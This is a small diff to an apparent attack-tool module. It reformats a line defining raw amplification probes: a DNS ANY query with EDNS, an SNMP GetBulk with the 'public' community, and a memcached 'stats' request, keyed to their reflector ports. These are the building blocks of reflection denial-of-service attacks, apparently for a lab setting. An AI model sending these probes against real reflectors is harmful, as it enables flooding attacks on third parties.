@@ -4,7 +4,8 @@ from attacks import raw
 from attacks.way import Way
 
 # Reflector, its port, the question.
-DNS = bytes.fromhex("1a2b01000001000000000001") + b"\x03any\x03lab\x04test\x00\x00\xff\x00\x01" + b"\x00\x00\x29\x10\x00\x00\x00\x00\x00\x00\x00"
+DNS = bytes.fromhex("1a2b01000001000000000001") + b"\x03any\x03lab\x04test\x00\x00\xff\x00\x01" \
+    + b"\x00\x00\x29\x10\x00\x00\x00\x00\x00\x00\x00"
 SNMP = bytes.fromhex("302602010104067075626c6963a519020471b5b1030201000201" "32" "300b300906052b060102010500")
 MEMCACHED = b"\x00\x01\x00\x00\x00\x01\x00\x00stats\r\n"
 QUESTIONS = {"dns": (53, DNS), "snmp": (161, SNMP), "memcached": (11211, MEMCACHED)}
